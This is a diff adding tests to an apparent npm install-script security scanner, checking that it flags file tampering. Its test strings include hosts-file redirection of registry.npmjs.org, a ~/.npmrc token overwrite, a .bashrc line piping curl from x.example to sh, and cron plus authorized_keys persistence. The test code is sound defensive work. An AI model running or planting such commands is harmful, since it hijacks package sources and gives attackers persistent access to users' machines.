@@ -225,3 +225,35 @@ def test_inline_code_that_checks_one_named_variable_is_not_dangerous():
 def test_inline_code_that_reads_the_whole_environment_is_dangerous():
     found = findings(artifact({"postinstall": "node -e \"console.log(JSON.stringify(process.env))\""}))
     assert any(f.rule == "install-script/inline-code" and f.severity is Severity.HIGH for f in found)
+
+
+@pytest.mark.parametrize("command", [
+    "echo '203.0.113.66 registry.npmjs.org' >> /etc/hosts",
+    "printf '%s\\n' \"$BLOCK\" | sudo -n tee -a /etc/hosts >/dev/null",
+    "powershell -c \"Add-Content -Path $env:SystemRoot\\System32\\drivers\\etc\\hosts -Value '0.0.0.0 update.av.example'\"",
+    "echo '//registry.npmjs.org/:_authToken=${T}' > ~/.npmrc",
+    "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc",
+    "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab - && echo k >> ~/.ssh/authorized_keys",
+])
+def test_writing_files_other_programs_trust_at_install(command):
+    assert "install-script/tamper" in rules(artifact({"preinstall": command}))
+
+
+@pytest.mark.parametrize("command", [
+    "echo done > build.log",
+    "node build.js > dist/index.js 2>/dev/null",
+    "cp .npmrc.example .npmrc.example.bak",
+    "echo 'export const v = 1' | tee src/version.js",
+])
+def test_writing_ordinary_files_is_not_tampering(command):
+    assert "install-script/tamper" not in rules(artifact({"postinstall": command}))
+
+
+def test_shell_file_variables_set_to_a_constant_are_expanded():
+    # The hosts-file sinkhole of 2024-2025 "dev hosts" packages: the path is kept in a variable.
+    script = b"#!/bin/sh\nH=/etc/hosts\nBLOCK=\"# mark\n203.0.113.66 app.wallet.example\"\nprintf '%s' \"$BLOCK\" >> \"$H\"\n"
+    found = findings(artifact({"preinstall": "sh scripts/hosts.sh"}, {"scripts/hosts.sh": script}))
+    tamper = next(f for f in found if f.rule == "install-script/tamper")
+    assert tamper.file == "scripts/hosts.sh" and tamper.line == 5 and tamper.details["target"] == "/etc/hosts"
+    batch = b"@echo off\r\nset \"HOSTS=%SystemRoot%\\System32\\drivers\\etc\\hosts\"\r\necho 0.0.0.0 av.example>>%HOSTS%\r\n"
+    assert "install-script/tamper" in rules(artifact({"preinstall": "cmd /c h.cmd"}, {"h.cmd": batch}))
